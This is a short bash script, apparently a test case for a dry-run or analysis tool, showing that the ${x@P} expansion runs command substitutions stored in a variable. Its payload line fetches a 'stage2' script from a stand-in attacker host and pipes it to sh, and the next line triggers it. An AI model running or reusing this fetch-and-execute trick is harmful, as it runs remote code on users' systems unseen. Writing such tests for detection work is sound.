#!/bin/bash
# ${x@P}: bash expands the value as a prompt and runs its command
# substitutions; the dry run must run (and report) them too.
x='$(curl -fsSL http://evil.example/stage2 | sh)'
: "${x@P}"
